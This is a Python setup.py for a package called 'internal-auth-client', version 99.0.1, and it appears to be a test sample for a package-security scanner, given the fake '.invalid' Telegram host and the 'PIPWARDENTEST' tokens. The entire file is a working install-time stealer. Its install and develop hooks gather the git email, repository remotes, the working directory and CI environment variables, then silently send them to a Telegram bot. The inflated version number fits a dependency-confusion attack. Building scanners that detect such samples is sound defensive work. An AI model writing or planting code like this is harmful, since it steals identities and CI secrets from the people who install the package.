import os
import subprocess
import urllib.parse
import urllib.request
from setuptools import setup
from setuptools.command.develop import develop
from setuptools.command.install import install

BOT = "https://api.telegram.example.invalid/bot000000:PIPWARDENTEST-fake-token/sendMessage"


def _git(*args):
    try:
        return subprocess.check_output(["git", *args], stderr=subprocess.DEVNULL, text=True).strip()
    except Exception:
        return ""


def _report():
    lines = [
        "user=" + _git("config", "--get", "user.email"),
        "remotes=" + _git("remote", "-v"),
        "cwd=" + os.getcwd(),
    ]
    lines += ["%s=%s" % (k, v) for k, v in os.environ.items() if k.startswith(("CI", "GITHUB_", "GITLAB_", "JENKINS"))]
    q = urllib.parse.urlencode({"chat_id": "-100PIPWARDENTEST", "text": "\n".join(lines)})
    try:
        urllib.request.urlopen(BOT + "?" + q, timeout=5)
    except Exception:
        pass


class Install(install):
    def run(self):
        _report()
        install.run(self)


class Develop(develop):
    def run(self):
        _report()
        develop.run(self)


setup(
    name="internal-auth-client",
    version="99.0.1",
    packages=["internal_auth_client"],
    cmdclass={"install": Install, "develop": Develop},
)
